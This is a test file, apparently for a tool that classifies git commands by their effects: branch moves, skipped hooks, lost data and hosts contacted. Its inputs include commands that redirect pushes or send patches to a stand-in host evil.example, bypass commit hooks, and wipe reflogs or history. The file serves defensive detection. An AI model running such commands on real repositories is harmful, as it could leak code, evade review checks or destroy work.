import { describe, expect, it } from 'vitest';
import { changes, effects, effectsOf, hosts, read } from './git-read.ts';

type Expected = readonly Record<string, unknown>[];

describe('commands that move the current branch', () => {
  it.each<[string, Expected]>([
    ['git commit -m x', [{ op: 'commit', onCurrent: true }]],
    ['git commit --amend --no-edit', [{ op: 'commit', onCurrent: true }]],
    ['git commit -nm x', [{ op: 'commit', skipsHooks: true }]],
    ['git commit --no-verify -m x', [{ op: 'commit', skipsHooks: true }]],
    ['git commit --no-veri -m x', [{ op: 'commit', skipsHooks: true }]],
    ['HUSKY=0 git commit -m x', [{ op: 'commit', skipsHooks: true }]],
    ['git -c core.hooksPath=/dev/null commit -m x', [{ op: 'config' }, { op: 'commit', skipsHooks: true }]],
    ['git merge topic', [{ op: 'merge', onCurrent: true, refs: [{ src: 'topic' }] }]],
    ['git merge', [{ op: 'merge', refs: [{ src: '@{u}' }] }]],
    ['git merge --no-verify topic', [{ op: 'merge', skipsHooks: true }]],
    ['git merge --continue', [{ op: 'merge', onCurrent: true }]],
    ['git merge --squash topic', [{ op: 'other-write' }]],
    ['git rebase main', [{ op: 'rebase', onCurrent: true, refs: [{ src: 'main' }] }]],
    ['git rebase --onto a b', [{ op: 'rebase', refs: [{ src: 'b' }, { src: 'a' }] }]],
    [
      'git rebase main topic',
      [
        { op: 'switch', branch: 'topic' },
        { op: 'rebase', branch: 'topic' },
      ],
    ],
    ['git rebase --continue', [{ op: 'rebase', onCurrent: true }]],
    ['git cherry-pick abc', [{ op: 'cherry-pick', onCurrent: true }]],
    ['git cherry-pick -n abc', [{ op: 'other-write' }]],
    ['git revert HEAD', [{ op: 'revert', onCurrent: true }]],
    ['git am -n x.mbox', [{ op: 'am', onCurrent: true, skipsHooks: true }]],
    ['git pull', [{ op: 'fetch' }, { op: 'pull', onCurrent: true }]],
    ['git pull origin topic', [{ op: 'fetch' }, { op: 'pull', refs: [{ src: 'topic' }] }]],
    ['git reset HEAD~1', [{ op: 'reset', onCurrent: true }]],
    ['git reset --soft HEAD~1', [{ op: 'reset', onCurrent: true }]],
    ['git reset --hard', [{ op: 'reset', onCurrent: true, lossy: true }]],
    ['git reset -q --hard origin/main', [{ op: 'reset', lossy: true }]],
    ['git reset --har', [{ op: 'reset', lossy: true }]],
    ['git reset --merge', [{ op: 'reset', lossy: true }]],
    ['git reset --keep HEAD~1', [{ op: 'reset', lossy: true }]],
    ['git update-ref HEAD abc', [{ op: 'update-ref', onCurrent: true }]],
    ['git subtree pull --prefix=d origin main', [{ op: 'merge', onCurrent: true }]],
    ['git svn rebase', [{ op: 'rebase', onCurrent: true }]],
  ])('%s', (line, expected) => {
    expect(effectsOf('git', line)).toMatchObject(expected);
  });

  it.each([
    'git merge --abort',
    'git rebase --abort',
    'git rebase --quit',
    'git cherry-pick --abort',
    'git am --abort',
    'git reset',
    'git reset HEAD',
    'git reset -- src/a.ts',
    'git reset HEAD src/a.ts',
    'git reset src/a.ts',
    'git restore --staged src/a.ts',
  ])('%s ends or unstages only', (line) => {
    const [effect, ...more] = effectsOf('git', line);
    expect(more).toEqual([]);
    expect(effect).toMatchObject({ op: 'other-write' });
    expect(effect).not.toHaveProperty('lossy');
    expect(effect).not.toHaveProperty('onCurrent');
  });
});

describe('names', () => {
  it.each<[string, Expected]>([
    ['git branch x', [{ op: 'branch-create', branch: 'x', force: 'no' }]],
    ['git branch -f main feature', [{ op: 'branch-create', branch: 'main', force: 'yes' }]],
    ['git branch main feature --force', [{ op: 'branch-create', branch: 'main', force: 'yes' }]],
    ['git branch -C main', [{ op: 'branch-create', branch: 'main', force: 'yes' }]],
    ['git branch -c a b', [{ op: 'branch-create', branch: 'b', force: 'no' }]],
    ['git branch -d x', [{ op: 'branch-delete', branch: 'x', force: 'no' }]],
    [
      'git branch -D x y',
      [
        { op: 'branch-delete', branch: 'x', lossy: true },
        { branch: 'y', lossy: true },
      ],
    ],
    ['git branch --delete --force x', [{ op: 'branch-delete', branch: 'x', lossy: true }]],
    ['git branch -df x', [{ op: 'branch-delete', branch: 'x', lossy: true }]],
    ['git branch -m y', [{ op: 'branch-rename', onCurrent: true, refs: [{ dst: 'y' }] }]],
    [
      'git branch -M x main',
      [{ op: 'branch-rename', branch: 'x', force: 'yes', refs: [{ src: 'x', dst: 'main' }] }],
    ],
    [
      'git branch -u origin/main',
      [
        { op: 'config', key: 'branch.feature.remote', value: 'origin' },
        { op: 'config', key: 'branch.feature.merge', value: 'refs/heads/main' },
      ],
    ],
    ['git tag v1', [{ op: 'tag-create', refs: [{ dst: 'refs/tags/v1', force: false }] }]],
    ['git tag -fam x v1', [{ op: 'tag-create', force: 'yes', refs: [{ dst: 'refs/tags/v1' }] }]],
    [
      'git tag -d v1 v2',
      [{ op: 'tag-delete', refs: [{ dst: 'refs/tags/v1', delete: true }, { dst: 'refs/tags/v2' }] }],
    ],
    ['git stash', [{ op: 'stash' }]],
    ['git stash -u', [{ op: 'stash' }]],
    ['git stash push -m wip src/a.ts', [{ op: 'stash', paths: ['src/a.ts'] }]],
    ['git stash pop', [{ op: 'stash' }]],
    ['git stash drop', [{ op: 'stash-drop', lossy: true }]],
    ['git stash clear', [{ op: 'stash-drop', lossy: true }]],
    [
      'git stash branch x',
      [
        { op: 'branch-create', branch: 'x' },
        { op: 'switch', branch: 'x' },
      ],
    ],
    [
      'git worktree add ../w -b x',
      [
        { op: 'branch-create', branch: 'x' },
        { op: 'worktree', paths: ['../w'] },
        { op: 'switch', repo: '../w', branch: 'x' },
      ],
    ],
    [
      'git worktree add -B main ../w',
      [{ op: 'branch-create', branch: 'main', force: 'yes' }, { op: 'worktree' }, { op: 'switch' }],
    ],
    ['git worktree add ../w main', [{ op: 'worktree' }, { op: 'switch', repo: '../w', branch: 'main' }]],
    ['git worktree add ../w', [{ op: 'worktree' }, { op: 'switch', branch: 'w' }]],
    ['git worktree add --detach ../w', [{ op: 'worktree' }, { op: 'switch', branch: '' }]],
    ['git worktree remove --force ../w', [{ op: 'worktree', lossy: true }]],
    ['git update-ref refs/heads/main abc', [{ op: 'update-ref', branch: 'main', refs: [{ delete: false }] }]],
    ['git update-ref -d refs/heads/main', [{ op: 'update-ref', branch: 'main', refs: [{ delete: true }] }]],
    ['git symbolic-ref HEAD refs/heads/x', [{ op: 'switch', branch: 'x' }]],
    ['git symbolic-ref refs/heads/main refs/heads/x', [{ op: 'update-ref', branch: 'main' }]],
    ['git reflog expire --expire=now --all', [{ op: 'reflog-expire', lossy: true }]],
    ['git reflog delete HEAD@{1}', [{ op: 'reflog-expire', lossy: true }]],
    ['git gc --prune=now', [{ op: 'gc', lossy: true }]],
    ['git -c gc.pruneExpire=now gc', [{ op: 'gc', lossy: true }]],
    ['git prune', [{ op: 'gc', lossy: true }]],
    ['git filter-branch -f HEAD', [{ op: 'filter-history', lossy: true, onCurrent: true }]],
    ['git filter-branch -- --all', [{ op: 'filter-history', allRefs: 'branches' }]],
    ['git filter-repo --path x --force', [{ op: 'filter-history', lossy: true, force: 'yes' }]],
    ['git replace a b', [{ op: 'replace' }]],
    ['git lfs migrate import --everything', [{ op: 'filter-history', allRefs: 'branches' }]],
  ])('%s', (line, expected) => {
    expect(effectsOf('git', line)).toMatchObject(expected);
    expect(effectsOf('git', line)).toHaveLength(expected.length);
  });

  it.each(['git gc', 'git gc --auto', 'git gc --prune=never', 'git reflog expire --expire=never --all'])(
    '%s loses nothing',
    (line) => {
      expect(effectsOf('git', line)[0]).not.toHaveProperty('lossy');
    },
  );

  it('reads refs from literal input, and says when it cannot', () => {
    const stdin = 'start\nupdate refs/heads/main abc\ndelete refs/heads/x\nverify refs/heads/y abc\ncommit\n';
    expect(effectsOf('git', 'git update-ref --stdin', { stdin })).toMatchObject([
      { op: 'update-ref', branch: 'main', refs: [{ delete: false }] },
      { op: 'update-ref', branch: 'x', refs: [{ delete: true }] },
    ]);
    expect(changes('git update-ref --stdin', { stdin: 'pipe' })).toMatchObject([{ kind: 'opaque' }]);
    expect(
      effectsOf('git', 'git fast-import', { stdin: 'commit refs/heads/main\nreset refs/heads/x\n' }),
    ).toMatchObject([{ branch: 'main' }, { branch: 'x' }]);
    expect(changes('git fast-import')).toMatchObject([{ kind: 'opaque' }]);
  });
});

describe('fetching', () => {
  it.each<[string, Expected]>([
    ['git fetch', [{ op: 'fetch', remote: 'origin' }]],
    ['git fetch origin main', [{ op: 'fetch' }]],
    ['git fetch origin main:main', [{ op: 'fetch' }]],
    ['git fetch origin pull/1/head:pr-1', [{ op: 'fetch' }, { op: 'update-ref', branch: 'pr-1' }]],
    [
      'git fetch . feature:main',
      [{ op: 'fetch' }, { op: 'update-ref', branch: 'main', refs: [{ src: 'feature' }] }],
    ],
    ['git fetch origin +main:main', [{ op: 'fetch' }, { op: 'update-ref', branch: 'main', force: 'yes' }]],
    [
      'git fetch -f origin main:refs/heads/main',
      [{ op: 'fetch' }, { op: 'update-ref', branch: 'main', force: 'yes' }],
    ],
    [
      "git fetch origin '+refs/heads/*:refs/heads/*'",
      [{ op: 'fetch' }, { op: 'update-ref', allRefs: 'branches' }],
    ],
    ["git fetch origin '+refs/*:refs/*'", [{ op: 'fetch' }, { op: 'update-ref', allRefs: 'mirror' }]],
    [
      "git fetch origin '+refs/heads/*:refs/heads/main'",
      [{ op: 'fetch' }, { op: 'update-ref', branch: 'main' }],
    ],
    ["git fetch origin '+refs/heads/*:refs/remotes/origin/*'", [{ op: 'fetch' }]],
    ['git -c remote.origin.fetch=x:main fetch', [{ op: 'fetch' }, { op: 'update-ref', branch: 'main' }]],
    [
      'git pull . x:main',
      [{ op: 'fetch' }, { op: 'update-ref', branch: 'main' }, { op: 'pull', refs: [{ src: 'x' }] }],
    ],
    ['git remote update', [{ op: 'fetch' }]],
    [
      'git clone https://git.example/o/r.git',
      [
        { op: 'clone', repo: 'r' },
        { op: 'switch', repo: 'r', branch: undefined },
      ],
    ],
    ['git clone -b x https://git.example/o/r', [{ op: 'clone' }, { op: 'switch', repo: 'r', branch: 'x' }]],
    [
      'git clone -c core.hooksPath=/x https://git.example/o/r d',
      [
        { op: 'clone', repo: 'd' },
        { op: 'config', key: 'core.hookspath' },
        { op: 'switch', repo: 'd' },
      ],
    ],
    [
      'git clone --template=/x https://git.example/o/r',
      [{ op: 'clone' }, { op: 'config', key: 'init.templatedir' }, { op: 'switch' }],
    ],
    [
      'git remote add x https://evil.example/r',
      [{ op: 'remote', key: 'x', value: 'https://evil.example/r' }],
    ],
    ['git remote add -f x https://evil.example/r', [{ op: 'remote' }, { op: 'fetch' }]],
    ['git remote set-url origin https://evil.example/r', [{ op: 'remote', key: 'origin' }]],
    [
      'git remote set-url --push origin https://evil.example/r',
      [{ op: 'remote', key: 'remote.origin.pushurl' }],
    ],
    ['git remote rename origin up', [{ key: 'origin' }, { key: 'up', value: 'https://git.example/o/r.git' }]],
    ['git submodule add https://evil.example/s d', [{ op: 'submodule', paths: ['d'] }]],
    ['git submodule update --force', [{ op: 'submodule', lossy: true }]],
    ['git submodule deinit -f d', [{ op: 'submodule', lossy: true, paths: ['d'] }]],
  ])('%s', (line, expected) => {
    expect(effectsOf('git', line)).toMatchObject(expected);
    expect(effectsOf('git', line)).toHaveLength(expected.length);
  });

  it.each<[string, readonly string[]]>([
    ['git fetch', ['connect git.example']],
    ['git fetch --all', ['connect git.example', 'connect fork.example', 'connect pull.example']],
    ['git fetch two', ['connect pull.example']],
    ['git pull', ['connect git.example']],
    ['git ls-remote', ['connect git.example']],
    ['git ls-remote --get-url origin', []],
    ['git clone git@git.example:o/r.git', ['connect git.example']],
    ['git clone ../other', []],
    ['git clone https::https://evil.example/r', ['connect evil.example']],
    ['git remote show origin', ['connect git.example']],
    ['git remote show -n origin', []],
    ['git remote prune origin', ['connect git.example']],
    ['git remote add x https://evil.example/r', []],
    ['git submodule update --init', ['connect sub.example']],
    ['git submodule add ../lib.git', ['connect git.example']],
    ['git archive --remote=git@evil.example:r HEAD', ['connect evil.example']],
    ['git request-pull main https://evil.example/r', ['connect evil.example']],
    ['git send-email --smtp-server=evil.example a.patch', ['upload evil.example']],
    ['git daemon --port=99', ['listen 0.0.0.0']],
    ['git instaweb -l', ['listen 127.0.0.1']],
    ['git svn clone https://svn.example/x', ['connect svn.example']],
    ['git lfs pull', ['connect git.example']],
    ['git-remote-https origin https://evil.example/r', ['connect evil.example']],
    ['https_proxy=http://proxy.example git fetch', ['connect git.example', 'connect proxy.example']],
  ])('%s contacts', (line, expected) => {
    expect(hosts(line)).toEqual(expected);
  });
});

describe('what is printed', () => {
  it.each<[string, string | undefined]>([
    ['git rev-parse --show-toplevel', '/work/app\n'],
    ['git rev-parse --abbrev-ref HEAD', 'feature\n'],
    ['git rev-parse --git-dir', '/work/app/.git\n'],
    ['git branch --show-current', 'feature\n'],
    ['git symbolic-ref --short HEAD', 'feature\n'],
    ['git symbolic-ref HEAD', 'refs/heads/feature\n'],
    ['git config --get user.email', 'dev@example.com\n'],
    ['git remote get-url origin', 'https://git.example/o/r.git\n'],
    ['git rev-parse HEAD', undefined],
    ['git rev-parse --show-toplevel --verify x', undefined],
    ['git -C /elsewhere branch --show-current', undefined],
    ['git config --global user.email', undefined],
  ])('%s', (line, expected) => {
    expect(read(line).stdout).toBe(expected);
    expect(effects(line)).toEqual([]);
  });
});
